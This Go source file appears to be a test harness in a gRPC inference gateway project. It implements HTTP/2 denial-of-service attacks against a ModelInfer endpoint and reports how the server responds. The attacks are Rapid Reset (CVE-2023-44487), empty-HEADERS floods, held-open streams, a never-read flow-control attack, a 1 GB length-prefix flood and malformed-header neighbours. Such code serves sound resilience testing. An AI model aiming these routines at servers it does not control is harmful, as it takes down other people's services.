package attack

import (
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/infergate/infergate/grpcwire"
	"github.com/infergate/infergate/internal/h2raw"
	"github.com/infergate/infergate/proto/methods"
)

// maxStreamID is the last client stream ID HTTP/2 allows.
const maxStreamID = 1<<31 - 1

// RapidResetParams configures RapidReset.
type RapidResetParams struct {
	// Duration is how long to attack; 0 means 5 s.
	Duration time.Duration
	// Model, when set, is an identity model the reset calls go to (64
	// bytes in), so that the server's counters for it are the attacker's
	// alone; "" sends the classic `simple` request.
	Model string
}

// RapidReset is CVE-2023-44487 with request bodies: on one connection, as
// fast as the socket (and the server's connection window) allows, a
// ModelInfer call for "simple" (HEADERS, then its one gRPC message in DATA
// with END_STREAM) immediately reset with RST_STREAM CANCEL. Report.Streams
// is the number of calls sent and reset; it stops at the server's GOAWAY
// or close.
func RapidReset(ctx context.Context, addr string, p RapidResetParams) (*Report, error) {
	d := p.Duration
	if d <= 0 {
		d = 5 * time.Second
	}
	actx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	c, err := dial(actx, addr, readingOpts(false))
	if err != nil {
		return nil, err
	}
	r := &Report{Attack: "rapid-reset"}
	hdr := requestHeaders(addr, methods.ModelInfer)
	req := SimpleRequest()
	if p.Model != "" {
		req = IdentityRequest(p.Model, 64)
	}
	msg := grpcMessage(marshal(req))
	err = func() error {
		for id := uint32(1); id <= maxStreamID; id += 2 {
			if id%64 == 1 && (actx.Err() != nil || c.Over()) {
				return actx.Err()
			}
			if err := c.Headers(id, hdr, false); err != nil {
				return err
			}
			r.Streams++
			if _, err := c.Take(actx, 0, len(msg), true); err != nil {
				return err
			}
			if err := c.Data(id, msg, true); err != nil {
				return err
			}
			if err := c.Reset(id, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		return fmt.Errorf("stream IDs used up")
	}()
	c.Flush()
	r.Stopped = c.Why(actx, err)
	closeInto(c, r)
	return r, nil
}

// EmptyHeadersParams configures EmptyHeaders.
type EmptyHeadersParams struct {
	// Streams is the number of empty streams; 0 means 400,000.
	Streams int
	// Linger is how long the connection stays open after the last
	// HEADERS, reading answers, unless every stream is answered sooner;
	// 0 means 1 s.
	Linger time.Duration
}

// EmptyHeaders opens Streams zero-length streams on one connection: a
// HEADERS frame with END_STREAM for the unary ModelInfer, no message.
// Answers are read (to notice GOAWAY) and discarded.
func EmptyHeaders(ctx context.Context, addr string, p EmptyHeadersParams) (*Report, error) {
	n := p.Streams
	if n <= 0 {
		n = 400_000
	}
	linger := p.Linger
	if linger <= 0 {
		linger = time.Second
	}
	c, err := dial(ctx, addr, readingOpts(false))
	if err != nil {
		return nil, err
	}
	r := &Report{Attack: "empty-headers"}
	hdr := requestHeaders(addr, methods.ModelInfer)
	err = openStreams(ctx, c, r, n, hdr, true)
	if ferr := c.Flush(); err == nil {
		err = ferr
	}
	r.Stopped = c.Why(ctx, err)
	if r.Stopped == "" {
		lctx, cancel := context.WithTimeout(ctx, linger)
		c.WaitFor(lctx, func(s *h2raw.Seen) bool {
			var resets int64
			for _, v := range s.Resets {
				resets += v
			}
			return s.GoAway != nil || s.Answered+resets >= r.Streams
		})
		cancel()
	}
	closeInto(c, r)
	return r, nil
}

// openStreams writes HEADERS for n new streams (odd IDs from 1), counted
// in r.Streams, and stops early at the server's GOAWAY or close.
func openStreams(ctx context.Context, c *conn, r *Report, n int, hdr []hpack.HeaderField, end bool) error {
	id := uint32(1)
	for i := range n {
		if i%64 == 0 && (ctx.Err() != nil || c.Over()) {
			return ctx.Err()
		}
		if id > maxStreamID {
			return fmt.Errorf("stream IDs used up")
		}
		if err := c.Headers(id, hdr, end); err != nil {
			return err
		}
		r.Streams++
		id += 2
	}
	return nil
}

// HoldStreamsParams configures HoldStreams.
type HoldStreamsParams struct {
	// Streams is the number of streams opened; 0 means 200,000.
	Streams int
	// Hold is how long they stay open once all are sent; 0 means 2 s.
	Hold time.Duration
}

// HoldStreams opens Streams streams on one connection with valid ModelInfer
// HEADERS and neither END_STREAM nor a body, keeps them open for Hold, and
// leaves (closes the connection).
func HoldStreams(ctx context.Context, addr string, p HoldStreamsParams) (*Report, error) {
	n := p.Streams
	if n <= 0 {
		n = 200_000
	}
	hold := p.Hold
	if hold <= 0 {
		hold = 2 * time.Second
	}
	c, err := dial(ctx, addr, readingOpts(false))
	if err != nil {
		return nil, err
	}
	r := &Report{Attack: "hold-streams"}
	err = openStreams(ctx, c, r, n, requestHeaders(addr, methods.ModelInfer), false)
	if ferr := c.Flush(); err == nil {
		err = ferr
	}
	r.Stopped = c.Why(ctx, err)
	if r.Stopped == "" {
		hctx, cancel := context.WithTimeout(ctx, hold)
		c.WaitFor(hctx, func(s *h2raw.Seen) bool { return s.GoAway != nil })
		cancel()
	}
	closeInto(c, r)
	return r, nil
}

// NeverReadParams configures NeverRead.
type NeverReadParams struct {
	// Streams is the number of calls; 0 means 50.
	Streams int
	// Model is an identity model (its answer carries the request's bytes
	// back); "" means identity_fp32.
	Model string
	// AnswerBytes is the size of each request, and so of each answer;
	// 0 means 4 MiB.
	AnswerBytes int
	// Hold is how long the attacker keeps the connection without reading
	// once the requests are sent; 0 means 3 s.
	Hold time.Duration
	// UploadTimeout bounds the sending of the requests; 0 means 30 s.
	UploadTimeout time.Duration
}

// NeverRead advertises SETTINGS_INITIAL_WINDOW_SIZE 2^31-1 and as big a
// connection window, opens Streams calls whose answers are AnswerBytes
// each, and never reads them: the request bodies go out one after the
// other, END_STREAM only once every body is sent (so that no answer
// starts early), and the reader (which the uploads need for the server's
// WINDOW_UPDATEs) stops as soon as they are sent. Answer bytes read
// before it stopped are in Report.AnswerBytes. A server that withholds
// window keeps the uploads from completing: Report.Uploaded says how
// many did by UploadTimeout.
func NeverRead(ctx context.Context, addr string, p NeverReadParams) (*Report, error) {
	n := p.Streams
	if n <= 0 {
		n = 50
	}
	model := p.Model
	if model == "" {
		model = "identity_fp32"
	}
	size := p.AnswerBytes
	if size <= 0 {
		size = 4 << 20
	}
	hold := p.Hold
	if hold <= 0 {
		hold = 3 * time.Second
	}
	upload := p.UploadTimeout
	if upload <= 0 {
		upload = 30 * time.Second
	}
	c, err := dial(ctx, addr, h2raw.Options{
		Settings:   []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}},
		ConnWindow: 1<<31 - 1 - 65535,
	})
	if err != nil {
		return nil, err
	}
	r := &Report{Attack: "never-read"}
	msg := grpcMessage(marshal(IdentityRequest(model, size)))
	uctx, cancel := context.WithTimeout(ctx, upload)
	err = func() error {
		hdr := requestHeaders(addr, methods.ModelInfer)
		for i := range n {
			id := uint32(2*i + 1)
			c.Watch(id)
			if err := c.Headers(id, hdr, false); err != nil {
				return err
			}
			r.Streams++
		}
		for i := range n {
			id := uint32(2*i + 1)
			for sent := 0; sent < len(msg); {
				k, err := c.Take(uctx, id, min(chunk, len(msg)-sent), false)
				if err != nil {
					return fmt.Errorf("uploads incomplete: %w", err)
				}
				if err := c.Data(id, msg[sent:sent+k], false); err != nil {
					return err
				}
				sent += k
			}
			r.Uploaded++
		}
		// END_STREAM last, for every stream at once: a server that
		// waits for it before answering a unary call (grpc-go checks
		// that no second message follows) answers none before now.
		for i := range n {
			if err := c.Data(uint32(2*i+1), nil, true); err != nil {
				return err
			}
		}
		err := c.Flush()
		r.UploadedAfter = time.Since(c.Started())
		return err
	}()
	cancel()
	c.StopReading()
	r.Stopped = c.Why(ctx, err)
	if err != nil && r.Stopped == "" {
		r.Stopped = err.Error()
	}
	if r.Stopped == "" {
		select {
		case <-ctx.Done():
		case <-time.After(hold):
		}
	}
	closeInto(c, r)
	return r, nil
}

// HugeLengthParams configures HugeLength.
type HugeLengthParams struct {
	// Length is what the gRPC length prefix claims; 0 means 1 GB.
	Length uint32
	// Duration is how long DATA keeps coming; 0 means 5 s.
	Duration time.Duration
}

// HugeLength opens one ModelInfer stream whose gRPC length prefix says
// Length bytes, then sends DATA (zeros) as fast as the server's
// flow-control window allows for Duration. Report.Accepted is the DATA the
// server took; GRPCStatus and StreamReset what it answered. It stops
// sending once the stream is reset, not when it is merely answered (the
// client's half of the stream is still open then).
func HugeLength(ctx context.Context, addr string, p HugeLengthParams) (*Report, error) {
	length := p.Length
	if length == 0 {
		length = 1_000_000_000
	}
	d := p.Duration
	if d <= 0 {
		d = 5 * time.Second
	}
	actx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	c, err := dial(actx, addr, readingOpts(true))
	if err != nil {
		return nil, err
	}
	r := &Report{Attack: "huge-length"}
	const id = 1
	c.Watch(id)
	err = func() error {
		if err := c.Headers(id, requestHeaders(addr, methods.ModelInfer), false); err != nil {
			return err
		}
		r.Streams++
		buf := make([]byte, chunk)
		grpcwire.PutPrefix(buf, int(length))
		first := true
		for {
			if c.Over() {
				return errClosed
			}
			if w := c.Stream(id); w.Reset {
				return nil
			}
			k, err := c.Take(actx, id, chunk, false)
			if err != nil {
				return err
			}
			w := c.Stream(id)
			if err := c.Data(id, buf[:k], false); err != nil {
				return err
			}
			if first {
				clear(buf[:5])
				first = false
			}
			r.Accepted += int64(k)
			if w.Ended || w.Reset {
				r.AcceptedAfterAnswer += int64(k)
			}
		}
	}()
	c.Flush()
	r.Stopped = c.Why(actx, err)
	// A moment for the answer to a stream the server had not answered.
	wctx, wcancel := context.WithTimeout(ctx, 500*time.Millisecond)
	c.WaitFor(wctx, func(s *h2raw.Seen) bool { w := s.Streams[id]; return w.Ended || w.Reset })
	wcancel()
	w := c.Stream(id)
	r.GRPCStatus, r.GRPCMessage, r.WatchedEndAfter = w.Status, w.Message, w.EndAt
	if w.Reset {
		r.StreamReset = w.ResetCode.String()
	}
	closeInto(c, r)
	return r, nil
}

// MalformedNeighbourParams configures MalformedNeighbour.
type MalformedNeighbourParams struct {
	// Malformation is "uppercase" (a header name with upper-case letters;
	// the default) or "second-path" (a second :path).
	Malformation string
	// Timeout bounds the wait for the good call's answer; 0 means 5 s.
	Timeout time.Duration
}

// MalformedNeighbour puts a good ModelInfer call for "simple" (stream 1)
// and a malformed request (stream 3) on one connection: HEADERS 1, HEADERS
// 3, then (after the server's reset of stream 3, or 1 s) DATA on stream 3
// and stream 1's DATA. GoodAnswered says whether stream 1 got its answer
// with grpc-status 0; GoAway whether the server ended the connection.
func MalformedNeighbour(ctx context.Context, addr string, p MalformedNeighbourParams) (*Report, error) {
	timeout := p.Timeout
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	bad := requestHeaders(addr, methods.ModelInfer)
	switch p.Malformation {
	case "", "uppercase":
		bad = append(bad, hpack.HeaderField{Name: "X-Upper-Case", Value: "1"})
	case "second-path":
		bad = append(bad[:3:3], append([]hpack.HeaderField{{Name: ":path", Value: methods.ModelInfer}}, bad[3:]...)...)
	default:
		return nil, fmt.Errorf("attack: malformed-neighbour: unknown malformation %q (uppercase or second-path)", p.Malformation)
	}
	tctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	c, err := dial(tctx, addr, readingOpts(true))
	if err != nil {
		return nil, err
	}
	r := &Report{Attack: "malformed-neighbour"}
	const good, evil = 1, 3
	c.Watch(good)
	c.Watch(evil)
	msg := grpcMessage(marshal(SimpleRequest()))
	err = func() error {
		if err := c.Headers(good, requestHeaders(addr, methods.ModelInfer), false); err != nil {
			return err
		}
		if err := c.Headers(evil, bad, false); err != nil {
			return err
		}
		r.Streams += 2
		if err := c.Flush(); err != nil {
			return err
		}
		rctx, rcancel := context.WithTimeout(tctx, time.Second)
		c.WaitFor(rctx, func(s *h2raw.Seen) bool { return s.Streams[evil].Reset })
		rcancel()
		for _, id := range []uint32{evil, good} {
			if _, err := c.Take(tctx, id, len(msg), true); err != nil {
				return err
			}
			if err := c.Data(id, msg, true); err != nil {
				return err
			}
		}
		if err := c.Flush(); err != nil {
			return err
		}
		c.WaitFor(tctx, func(s *h2raw.Seen) bool { w := s.Streams[good]; return w.Ended || w.Reset })
		return nil
	}()
	r.Stopped = c.Why(tctx, err)
	g, e := c.Stream(good), c.Stream(evil)
	r.GRPCStatus, r.GRPCMessage, r.WatchedEndAfter = g.Status, g.Message, g.EndAt
	if g.Reset {
		r.StreamReset = g.ResetCode.String()
	}
	r.GoodAnswered = g.GotData && g.Status == "0"
	if e.Reset {
		r.NeighbourReset = e.ResetCode.String()
	}
	closeInto(c, r)
	return r, nil
}
